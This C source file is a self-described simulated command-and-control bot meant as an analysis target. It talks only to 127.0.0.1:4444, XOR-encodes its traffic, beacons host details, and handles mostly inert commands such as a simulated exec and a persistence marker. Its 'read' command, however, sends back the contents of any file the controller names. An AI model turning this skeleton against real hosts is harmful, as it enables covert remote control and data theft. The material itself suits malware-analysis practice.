/*
 * v11: a simulated command-and-control bot used as an analysis target.
 * It only ever talks to the loopback interface and its commands are inert.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define BUF_SIZE 512

struct config {
  char host[64];
  int port;
  int beacon_seconds;
  unsigned char key;
};

static FILE *log_file;

void log_event(const char *message) {
  if (log_file) fprintf(log_file, "[v11] %s\n", message);
}

void xor_buffer(char *buf, size_t len, unsigned char key) {
  for (size_t i = 0; i < len; ++i) buf[i] ^= key;
}

void encrypt_message(char *buf, size_t len, const struct config *cfg) {
  xor_buffer(buf, len, cfg->key);
}

void decrypt_message(char *buf, size_t len, const struct config *cfg) {
  xor_buffer(buf, len, cfg->key);
}

void load_config(struct config *cfg) {
  strncpy(cfg->host, "127.0.0.1", sizeof cfg->host - 1);
  cfg->port = 4444;
  cfg->beacon_seconds = 5;
  cfg->key = 0x5a;
  log_event("config loaded");
}

int open_log(void) {
  log_file = fopen("/tmp/v11.log", "a");
  return log_file != NULL;
}

int connect_c2(const struct config *cfg) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return -1;
  struct sockaddr_in addr;
  memset(&addr, 0, sizeof addr);
  addr.sin_family = AF_INET;
  addr.sin_port = htons((unsigned short)cfg->port);
  inet_pton(AF_INET, cfg->host, &addr.sin_addr);
  if (connect(fd, (struct sockaddr *)&addr, sizeof addr) < 0) {
    close(fd);
    log_event("connect failed");
    return -1;
  }
  log_event("connected");
  return fd;
}

int send_message(int fd, char *msg, const struct config *cfg) {
  size_t len = strlen(msg);
  encrypt_message(msg, len, cfg);
  return (int)send(fd, msg, len, 0);
}

int receive_command(int fd, char *buf, const struct config *cfg) {
  ssize_t n = recv(fd, buf, BUF_SIZE - 1, 0);
  if (n <= 0) return -1;
  decrypt_message(buf, (size_t)n, cfg);
  buf[n] = '\0';
  return (int)n;
}

void collect_host_info(char *out, size_t len) {
  char name[64] = "unknown";
  gethostname(name, sizeof name);
  snprintf(out, len, "host=%s pid=%d", name, (int)getpid());
}

int send_beacon(int fd, const struct config *cfg) {
  char msg[BUF_SIZE];
  collect_host_info(msg, sizeof msg);
  return send_message(fd, msg, cfg);
}

int cmd_ping(int fd, const struct config *cfg) {
  char msg[] = "pong";
  return send_message(fd, msg, cfg);
}

int cmd_sleep(const char *arg) {
  int seconds = atoi(arg);
  log_event("sleeping");
  sleep((unsigned)(seconds > 0 && seconds < 3 ? seconds : 1));
  return 0;
}

int cmd_write_file(const char *arg) {
  FILE *f = fopen("/tmp/v11.drop", "w");
  if (!f) return -1;
  fputs(arg, f);
  fclose(f);
  log_event("file written");
  return 0;
}

int cmd_read_file(int fd, const char *path, const struct config *cfg) {
  char msg[BUF_SIZE] = {0};
  FILE *f = fopen(path, "r");
  if (!f) return -1;
  size_t n = fread(msg, 1, sizeof msg - 1, f);
  msg[n] = '\0';
  fclose(f);
  return send_message(fd, msg, cfg);
}

int cmd_simulate_exec(int fd, const char *arg, const struct config *cfg) {
  char msg[BUF_SIZE];
  snprintf(msg, sizeof msg, "would run: %s", arg);
  log_event("exec simulated");
  return send_message(fd, msg, cfg);
}

int install_persistence(void) {
  FILE *f = fopen("/tmp/v11.autostart", "w");
  if (!f) return -1;
  fprintf(f, "# simulated persistence marker\n");
  fclose(f);
  log_event("persistence simulated");
  return 0;
}

int dispatch_command(int fd, char *line, const struct config *cfg) {
  char *arg = strchr(line, ' ');
  if (arg) *arg++ = '\0';
  else arg = line + strlen(line);
  if (strcmp(line, "ping") == 0) return cmd_ping(fd, cfg);
  if (strcmp(line, "sleep") == 0) return cmd_sleep(arg);
  if (strcmp(line, "write") == 0) return cmd_write_file(arg);
  if (strcmp(line, "read") == 0) return cmd_read_file(fd, arg, cfg);
  if (strcmp(line, "exec") == 0) return cmd_simulate_exec(fd, arg, cfg);
  if (strcmp(line, "persist") == 0) return install_persistence();
  if (strcmp(line, "quit") == 0) return 1;
  log_event("unknown command");
  return 0;
}

int command_loop(int fd, const struct config *cfg) {
  char buf[BUF_SIZE];
  for (int rounds = 0; rounds < 8; ++rounds) {
    if (send_beacon(fd, cfg) < 0) return -1;
    if (receive_command(fd, buf, cfg) < 0) return -1;
    if (dispatch_command(fd, buf, cfg) == 1) return 0;
  }
  return 0;
}

void shutdown_bot(int fd) {
  if (fd >= 0) close(fd);
  log_event("shutdown");
  if (log_file) fclose(log_file);
}

int main(void) {
  struct config cfg;
  open_log();
  load_config(&cfg);
  int fd = connect_c2(&cfg);
  if (fd < 0) {
    shutdown_bot(fd);
    return 1;
  }
  int rc = command_loop(fd, &cfg);
  shutdown_bot(fd);
  return rc == 0 ? 0 : 2;
}
